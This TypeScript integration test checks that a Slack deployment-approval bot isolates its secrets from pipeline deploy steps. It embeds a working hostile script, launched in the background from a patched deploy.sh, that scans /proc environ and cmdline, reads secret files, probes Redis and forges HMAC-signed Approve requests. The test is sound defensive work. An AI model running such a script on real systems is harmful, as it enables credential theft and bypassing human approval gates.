import { randomBytes } from 'node:crypto';
import { chmod, mkdtemp, readFile, rename, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type BotProcess, spawnBot } from '../../support/bot-process.js';
import { type FakePrometheus, startFakePrometheus } from '../../support/fake-prometheus.js';
import { buttonsOf, type FakeSlack, startFakeSlack, TEST_CHANNELS } from '../../support/fake-slack/index.js';
import { type RedisServer, startRedisServer } from '../../support/redis-server.js';
import { blockActionPayload } from '../../support/slack-requests.js';
import { waitFor } from '../../support/wait-for.js';
import { createWorkspace, testPipeline, type Workspace } from '../../support/workspace.js';

// The gate bypass, attempted for real: a deploy step (the pipeline repository's code) goes looking for the bot's
// secrets in /proc, in its secret files and in Redis, and forges a signed Approve with whatever it found. The bot
// runs as root here, as in its image, so steps run as an unprivileged user and find nothing.

const HOSTILE = String.raw`
import { createHmac } from 'node:crypto';
import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { connect } from 'node:net';
const found = {
  uid: process.getuid(), gid: process.getgid(), groups: process.getgroups(), home: process.env.HOME,
  read: {}, denied: [],
};
// A read of another process's /proc/<pid>/cmdline waits for that process's memory map lock, which a busy
// process (a browser under test) can hold for long: every read gets 2 s, so one stuck read cannot stop the attack.
const tryRead = async (path) => {
  let timer;
  const late = new Promise((_, reject) => { timer = setTimeout(() => reject(Object.assign(new Error('slow'), { code: 'SLOW' })), 2000); });
  try { found.read[path] = await Promise.race([readFile(path, 'latin1'), late]); }
  catch (error) { found.denied.push(path + ' ' + error.code); }
  finally { clearTimeout(timer); }
};
await tryRead('/proc/' + process.ppid + '/environ');
await tryRead('/proc/' + process.ppid + '/cmdline');
for (const pid of readdirSync('/proc').filter((entry) => /^\d+$/.test(entry))) {
  await tryRead('/proc/' + pid + '/environ');
  await tryRead('/proc/' + pid + '/cmdline');
}
for (const path of process.env.ATTACK_FILES.split(',').filter(Boolean)) await tryRead(path);
const redis = (commands) => new Promise((resolve) => {
  const socket = connect(Number(process.env.ATTACK_REDIS_PORT), '127.0.0.1');
  let answer = '';
  socket.on('connect', () => socket.write(commands));
  socket.on('data', (chunk) => { answer += chunk; if (answer.split('\r\n').length > commands.split('\r\n').length - 1) socket.end(); });
  socket.on('close', () => resolve(answer));
  socket.on('error', (error) => resolve(String(error)));
});
found.redis = {
  anonymous: await redis('KEYS *\r\n'),
  guessed: await redis('AUTH default guessed\r\nKEYS *\r\n'),
};
// Report what it has so far, then wait (in the background, the step itself is over) for the gate to open.
const report = () => writeFileSync(process.env.ATTACK_REPORT, JSON.stringify(found));
report();
const forgeFile = 'forge-' + process.env.VERSION + '.json';
for (let waited = 0; !existsSync(forgeFile) && waited < 120_000; waited += 50) await new Promise((r) => setTimeout(r, 50));
const { url, body } = JSON.parse(readFileSync(forgeFile, 'utf8'));
// Sign the Approve with every signing secret it could have found: from an environment or a secret file.
const everything = Object.values(found.read).join('\n');
const candidates = new Set([
  ...[...everything.matchAll(/SLACK_SIGNING_SECRET=([^\0\n]+)/g)].map((match) => match[1]),
  ...process.env.ATTACK_FILES.split(',').filter((path) => path in found.read).map((path) => found.read[path].trim()),
]);
if (candidates.size === 0) candidates.add('guessed-secret');
found.forged = [];
for (const secret of candidates) {
  const ts = Math.floor(Date.now() / 1000);
  const signature = 'v0=' + createHmac('sha256', secret).update('v0:' + ts + ':' + body).digest('hex');
  found.forged.push(await fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-slack-request-timestamp': String(ts), 'x-slack-signature': signature },
    body,
  }).then((r) => r.status, (error) => String(error)));
}
found.done = true;
report();
`;

let redis: RedisServer;
let slack: FakeSlack;
let prometheus: FakePrometheus;
let workspace: Workspace;
let secretsDir: string;
let bot: BotProcess | undefined;
const secrets = {
  bot: `xoxb-${randomBytes(12).toString('hex')}`,
  signing: randomBytes(16).toString('hex'),
  api: randomBytes(16).toString('hex'),
  redisPassword: randomBytes(12).toString('hex'),
};
const redisUrl = () => `redis://:${secrets.redisPassword}@127.0.0.1:${redis.port}`;
const secretFile = (name: string) => join(secretsDir, name);

type Found = {
  uid: number;
  gid: number;
  groups: number[];
  home: string;
  read: Record<string, string>;
  denied: string[];
  redis: { anonymous: string; guessed: string };
  forged: Array<number | string>;
  done?: boolean;
};

beforeAll(async () => {
  // Not a skip: without root the bot cannot switch users, and this test would prove nothing.
  expect(process.getuid?.(), 'the isolation test needs root, as CI and the image have').toBe(0);
  redis = await startRedisServer({ password: secrets.redisPassword });
  slack = await startFakeSlack({ token: secrets.bot, channels: TEST_CHANNELS });
  prometheus = await startFakePrometheus();
  workspace = await createWorkspace();
  // Root's secret files, 0600 in a 0700 directory, as a secrets mount or systemd's credentials directory has them.
  secretsDir = await mkdtemp(join(tmpdir(), 'pb-secrets-'));
  await chmod(secretsDir, 0o700);
  for (const [name, value] of [
    ['slack_bot_token', secrets.bot],
    ['slack_signing_secret', `${secrets.signing}\n`],
    ['promotion_api_token', secrets.api],
    ['redis_url', `${redisUrl()}\n`],
  ] as const) {
    await writeFile(secretFile(name), value, { mode: 0o600 });
  }
  await writeFile(join(workspace.dir, 'hostile.mjs'), HOSTILE);
  const deploy = await readFile(join(workspace.dir, 'deploy.sh'), 'utf8');
  // The deploy step of development leaves the attacker running in the background, then deploys as usual.
  await writeFile(
    join(workspace.dir, 'deploy.sh'),
    deploy.replace(
      '#!/bin/sh\n',
      '#!/bin/sh\nif [ "$ENVIRONMENT" = development ]; then ATTACK_REPORT="attack-$VERSION.json" node "$(dirname "$0")/hostile.mjs" > "attack-$VERSION.log" 2>&1 & fi\n',
    ),
  );
  await workspace.writePipeline(testPipeline({ prometheusUrl: prometheus.url }));
});

afterEach(async () => {
  if (!bot) return;
  bot.child.kill('SIGKILL');
  await bot.exited;
  bot = undefined;
});

afterAll(async () => {
  await redis?.stop();
  await slack?.close();
  await prometheus?.close();
  await workspace?.remove();
  if (secretsDir) await rm(secretsDir, { recursive: true, force: true });
});

/** Starts the bot with its secrets given as `secretEnv`, publishes `version` and returns what the step found. */
async function attackAs(version: string, secretEnv: Record<string, string>) {
  bot = spawnBot(['start'], {
    // spawnBot's own test secrets are replaced by these (blank counts as unset).
    SLACK_BOT_TOKEN: '',
    SLACK_SIGNING_SECRET: '',
    PROMOTION_API_TOKEN: '',
    ...secretEnv,
    // Each variant its own state in the one Redis.
    REDIS_PREFIX: `iso${version.replaceAll('.', '')}`,
    SLACK_API_URL: slack.apiUrl,
    PIPELINE_FILE: join(workspace.dir, 'pipeline.yml'),
    PORT: '0',
    HOST: '127.0.0.1',
    ATTACK_FILES: ['slack_bot_token', 'slack_signing_secret', 'promotion_api_token', 'redis_url']
      .map(secretFile)
      .join(','),
    ATTACK_REDIS_PORT: String(redis.port),
  });
  const running = bot;
  const url = await waitFor('the bot to listen', () => /"url":"(http:[^"]+)"/.exec(running.output())?.[1]);
  const api = (path: string, init: RequestInit = {}) =>
    fetch(`${url}${path}`, {
      ...init,
      headers: { authorization: `Bearer ${secrets.api}`, 'content-type': 'application/json' },
    }).catch((error: unknown) => {
      throw new Error(`${String(error)}; the bot said: ${running.output()}`);
    });
  const status = async (id: string) =>
    ((await (await api(`/api/promotions/${id}`)).json()) as { status: string }).status;
  const published = await api('/api/artifacts', {
    method: 'POST',
    body: JSON.stringify({ service: 'checkout', version, digest: `sha256:${'a'.repeat(64)}` }),
  });
  expect(published.status, running.output()).toBe(202);
  const { id } = (await published.json()) as { id: string };

  await waitFor('the promotion to reach the gate', async () => (await status(id)) === 'awaiting_approval');
  // The Approve a real click on this gate would send (Slack's payload format is public): only the signature is
  // the attacker's to make.
  const gate = await slack.waitForMessage(
    'C0DEPLOYS',
    (m) => buttonsOf(m).some((b) => b.actionId === 'promotion.approve' && b.value === id),
    15_000,
  );
  const payload = blockActionPayload({
    actionId: 'promotion.approve',
    value: id,
    userId: 'U0CAROL',
    channelId: gate.channel,
    messageTs: gate.ts,
    responseUrl: slack.responseUrl(undefined, {
      channel: gate.channel,
      userId: 'U0CAROL',
      messageTs: gate.ts,
    }),
    message: gate,
  });
  // Written aside, then renamed into place: the attacker waits for the file to exist, and must never read it
  // half-written (it did once, and died on the JSON before it could report).
  const forgeFile = join(workspace.dir, `forge-${version}.json`);
  await writeFile(
    `${forgeFile}.partial`,
    JSON.stringify({
      url: `${url}/slack/events`,
      body: new URLSearchParams({ payload: JSON.stringify(payload) }).toString(),
    }),
  );
  await rename(`${forgeFile}.partial`, forgeFile);
  const reportFile = join(workspace.dir, `attack-${version}.json`);
  // A loaded machine may take a while from the step starting to the gate message: the attacker waits for it.
  const found = await waitFor(
    'the attacker to report',
    async () => {
      const text = await readFile(reportFile, 'utf8').catch(() => '{}');
      const parsed = JSON.parse(text || '{}') as Found;
      return parsed.done ? parsed : undefined;
    },
    60_000,
  ).catch(async (error: unknown) => {
    // Say what the attacker got to (it has failed to report once on a loaded CI run): its own log, how far its
    // report got, and the bot's last words.
    const log = await readFile(join(workspace.dir, `attack-${version}.log`), 'utf8').catch(() => '(no log)');
    const partial = await readFile(reportFile, 'utf8').catch(() => '');
    const stages = Object.keys(JSON.parse(partial || '{}') as object).join(', ') || 'nothing';
    throw new Error(
      `${String(error)}\nthe attacker's log:\n${log}\nits report had: ${stages}\nthe bot said:\n${running.output().slice(-4000)}`,
    );
  });
  const report = await readFile(reportFile, 'utf8');
  return { report, found, botPid: running.pid, statusAfter: await status(id), output: running.output() };
}

function expectNothingObtained({
  report,
  found,
  botPid,
  statusAfter,
  output,
}: Awaited<ReturnType<typeof attackAs>>) {
  // It ran, and as someone else: otherwise finding nothing would prove nothing.
  expect(found.uid, output).not.toBe(0);
  expect(found.gid).not.toBe(0);
  expect(found.groups).toEqual([found.gid]);
  expect(found.home).not.toBe('/root');
  expect(output).toContain('run steps execute as another user');
  // It could see the bot's process (its command line is public), just nothing secret about it.
  expect(found.read[`/proc/${botPid}/cmdline`]).toContain('src/cli.ts');
  expect(found.denied).toContain(`/proc/${botPid}/environ EACCES`);
  for (const name of ['slack_bot_token', 'slack_signing_secret', 'promotion_api_token', 'redis_url']) {
    expect(found.denied).toContain(`${secretFile(name)} EACCES`);
  }
  for (const value of Object.values(secrets)) expect(report).not.toContain(value);
  expect(found.redis.anonymous).toMatch(/NOAUTH/);
  expect(found.redis.guessed).toMatch(/WRONGPASS/);
  // Signed with every candidate it had (or a guess): each one refused.
  expect(found.forged.length).toBeGreaterThan(0);
  for (const status of found.forged) expect(status).toBe(401);
  expect(statusAfter).toBe('awaiting_approval');
}

describe('a hostile run step', { timeout: 150_000 }, () => {
  it('finds none of the secrets the bot read from files, and its forged Approve leaves the gate shut', async () => {
    const attack = await attackAs('1.0.0', {
      SLACK_BOT_TOKEN_FILE: secretFile('slack_bot_token'),
      SLACK_SIGNING_SECRET_FILE: secretFile('slack_signing_secret'),
      PROMOTION_API_TOKEN_FILE: secretFile('promotion_api_token'),
      REDIS_URL_FILE: secretFile('redis_url'),
    });

    expectNothingObtained(attack);
  });

  it("finds none of the secrets in the bot's environment either: /proc/<bot>/environ is closed to it", async () => {
    const attack = await attackAs('2.0.0', {
      SLACK_BOT_TOKEN: secrets.bot,
      SLACK_SIGNING_SECRET: secrets.signing,
      PROMOTION_API_TOKEN: secrets.api,
      REDIS_URL: redisUrl(),
    });

    expectNothingObtained(attack);
  });
});
